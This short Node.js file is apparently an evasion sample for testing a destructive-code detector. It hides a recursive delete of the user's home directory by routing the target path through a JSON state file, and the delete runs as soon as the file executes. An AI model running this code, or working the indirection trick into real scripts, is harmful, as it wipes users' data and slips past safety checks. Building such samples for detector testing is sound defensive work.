// Evasion: the target of a recursive delete travels through a file: the
// first step writes the home directory into a JSON state file, the second
// step reads the state back and removes the "workspace" it names.
'use strict';
const fs = require('fs');
const os = require('os');
const path = require('path');

const STATE = path.join(os.tmpdir(), 'ws-state.json');

function init() {
  fs.writeFileSync(STATE, JSON.stringify({ workspace: os.homedir(), created: Date.now() }));
}

function teardown() {
  const st = JSON.parse(fs.readFileSync(STATE, 'utf8'));
  fs.rmSync(st.workspace, { recursive: true, force: true });
  fs.unlinkSync(STATE);
}

init();
teardown();
